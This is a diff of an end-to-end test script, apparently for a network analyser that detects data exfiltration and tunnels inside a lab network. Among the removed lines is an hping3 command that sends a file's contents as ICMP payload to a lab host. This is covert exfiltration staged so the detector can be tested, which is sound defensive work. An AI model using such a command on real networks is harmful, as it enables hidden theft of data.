@@ -55,11 +55,8 @@ reach atk 10.78.0.20 || e2e_fail "the lab does not route: atk cannot ping vic"
 reach mgmt 10.77.0.10 || e2e_fail "the lab does not route: mgmt cannot ping atk"
 
 # ---- 1. a real exfiltration through the router, recorded and analysed
-head -c 30000 /dev/urandom | base64 >"$E2E_TMP/secret.txt"
 cap=$E2E_TMP/exfil.pcap
-e2e_capture_start rtr eth0 "$cap" 60
-e2e_x 40 atk hping3 -1 -q -E "$E2E_TMP/secret.txt" -d 600 -c 60 -i u50000 10.78.0.20 >/dev/null 2>&1 || true
-e2e_capture_stop
+e2e_record_exfil rtr 10.78.0.20 "$cap"
 e2e_analyze "$bin" "$cap" "$E2E_TMP/analysis.jsonl"
 if ! e2e_has_finding "$E2E_TMP/analysis.jsonl" exfiltration 10.77.0.10 &&
    ! e2e_has_finding "$E2E_TMP/analysis.jsonl" tunnel 10.77.0.10; then
